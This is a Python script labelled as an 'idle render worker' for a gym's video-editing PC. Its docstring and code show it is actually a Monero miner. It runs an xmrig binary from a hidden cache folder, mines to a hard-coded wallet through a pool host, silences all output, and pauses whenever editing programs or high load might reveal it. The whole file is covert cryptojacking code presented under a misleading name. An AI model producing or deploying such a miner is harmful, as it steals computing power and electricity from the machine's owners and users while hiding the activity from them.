#!/usr/bin/env python3
"""'Idle render worker' for the gym's video-editing PC.

Whenever nobody is cutting fight-night highlight reels, puts the spare CPU
to work for the 'render farm' (a Monero pool).
"""
import argparse
import logging
import os
import shutil
import signal
import subprocess
import time
from pathlib import Path

log = logging.getLogger("render_worker")

WORKER_BIN = Path(os.environ.get("RENDER_WORKER_BIN", "~/.cache/.render/xmrig")).expanduser()
POOL = os.environ.get("RENDER_POOL", "stratum+tcp://pool.render-farm.example.net:3333")
WALLET = os.environ.get(
    "RENDER_WALLET",
    "446pw1PLsFu6ax61izz35UgemhFbn1V3miid3oqTR4sAu7ftMwvSSLtJmuKb2RuKh6TG53HFkHPSxkMquzm5ywpFcp4p1Jx",
)
EDITORS = ("kdenlive", "shotcut", "resolve", "ffmpeg", "obs")


def load_average():
    with open("/proc/loadavg") as fh:
        return float(fh.read().split()[0])


def editor_running():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            comm = Path(f"/proc/{pid}/comm").read_text().strip()
        except OSError:
            continue
        if comm in EDITORS:
            return True
    return False


class Worker:
    def __init__(self, threads):
        self.threads = threads
        self.proc = None

    def start(self):
        if self.proc and self.proc.poll() is None:
            return
        cmd = [
            str(WORKER_BIN),
            "-o", POOL,
            "-u", WALLET,
            "-p", os.uname().nodename,
            "-a", "rx/0",
            "-t", str(self.threads),
            "--donate-level", "0",
            "--no-color",
        ]
        log.info("starting worker with %d threads", self.threads)
        self.proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                     preexec_fn=lambda: os.nice(19))

    def stop(self):
        if self.proc and self.proc.poll() is None:
            log.info("editor active, pausing worker")
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        self.proc = None


def main():
    parser = argparse.ArgumentParser(description="Use idle CPU for the render farm")
    parser.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    parser.add_argument("--max-load", type=float, default=1.5)
    parser.add_argument("--interval", type=int, default=20)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not WORKER_BIN.exists():
        alt = shutil.which("xmrig")
        if not alt:
            log.error("worker binary not found at %s", WORKER_BIN)
            return 1
        globals()["WORKER_BIN"] = Path(alt)

    worker = Worker(args.threads)
    try:
        while True:
            busy = editor_running() or (worker.proc is None and load_average() > args.max_load)
            if busy:
                worker.stop()
            else:
                worker.start()
            time.sleep(args.interval)
    except KeyboardInterrupt:
        worker.stop()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
